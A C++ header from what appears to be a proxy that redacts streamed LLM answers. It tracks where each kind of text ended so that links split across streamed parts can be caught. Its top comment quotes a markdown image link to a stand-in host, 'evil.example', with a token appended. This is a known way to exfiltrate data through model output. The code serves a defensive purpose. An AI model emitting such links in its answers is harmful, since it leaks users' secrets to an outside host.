// text_ends.h: where the texts of an answer end, for those that go on there.
//
// Clients join the parts of an answer to one text, so a link that one part opens goes on in the
// next: "![x](https://evil.example/?q=" in one, the token alone in the other. A text of the same
// kind that stands behind the one before begins in the place in which that one ended; the copies
// that vendors send of a text again do not stand behind it.
//
// It is harder than to remember the last text because texts of other kinds (a citation, a
// tool's input) stand between, and because copies of one part come in an order of their own.
//
// Limits  kTextEndsMax kinds; of one more the oldest is forgotten.
// Owner   one answer. Holds some letters of it: wiped.
#pragma once

#include <algorithm>
#include <array>
#include <compare>
#include <cstdint>

#include "dataplane/llm/events.h"
#include "dataplane/mem/wipe.h"
#include "dataplane/redact/place_tracker.h"

namespace sallyport::rewrite {

// An answer has text, refusal, thoughts and their copies, each at one or two depths.
inline constexpr size_t kTextEndsMax = 16;

// Which text it is: its kind, and the numbers by which texts of that kind follow each other.
struct TextPlace {
  static constexpr uint32_t kNoKind = 0xffff'ffff;
  uint32_t kind = kNoKind;
  std::array<uint32_t, 2 + llm::kIndexesMax> numbers{};

  // Of the path `rule`, in an event with these numbers (no event: zeros). The same path at another
  // depth of lists is another kind.
  static TextPlace of_leaf(const llm::Leaf& leaf, uint32_t outer, uint32_t inner) noexcept {
    TextPlace out;
    out.kind = uint32_t{leaf.rule} << 8 | leaf.index_count;
    out.numbers = {outer, inner};
    std::copy(leaf.indexes.begin(), leaf.indexes.end(), out.numbers.begin() + 2);
    return out;
  }
  static TextPlace of_channel(const llm::ChannelKey& key) noexcept {
    TextPlace out;
    out.kind = uint32_t{1} << 31 | key.channel;
    out.numbers = {key.outer, key.inner};
    return out;
  }
};

class TextEnds {
 public:
  using State = redact::PlaceTracker::State;

  TextEnds() = default;
  ~TextEnds() { clear(); }
  TextEnds(const TextEnds&) = default;
  TextEnds& operator=(const TextEnds&) = default;

  void clear() noexcept {
    mem::wipe({reinterpret_cast<uint8_t*>(ends_.data()), sizeof(ends_)});
    ends_.fill(End{});
    oldest_ = 0;
    begin_event(0, 0);
  }
  // Of the event whose texts come now.
  void begin_event(uint32_t outer, uint32_t inner) noexcept {
    outer_ = outer;
    inner_ = inner;
  }
  TextPlace place(const llm::Leaf& leaf) const noexcept {
    return TextPlace::of_leaf(leaf, outer_, inner_);
  }

  // Where the text that this one goes on behind ended; null: it goes on behind none.
  const State* before(const TextPlace& place) const noexcept {
    const auto found = find(place.kind);
    return found != ends_.end() && found->place.numbers < place.numbers ? &found->state : nullptr;
  }
  // An empty text ends nowhere: do not tell of it.
  void keep(const TextPlace& place, const State& state) noexcept {
    auto found = find(place.kind);
    if (found == ends_.end()) {
      found = ends_.begin() + static_cast<std::ptrdiff_t>(oldest_);
      oldest_ = (oldest_ + 1) % kTextEndsMax;
    }
    ends_[static_cast<size_t>(found - ends_.begin())] = End{place, state};
  }

 private:
  struct End {
    TextPlace place;
    State state;
  };
  std::array<End, kTextEndsMax>::const_iterator find(uint32_t kind) const noexcept {
    return std::find_if(ends_.begin(), ends_.end(),
                        [&](const End& end) { return end.place.kind == kind; });
  }

  std::array<End, kTextEndsMax> ends_{};
  size_t oldest_ = 0;
  uint32_t outer_ = 0;
  uint32_t inner_ = 0;
};

}  // namespace sallyport::rewrite
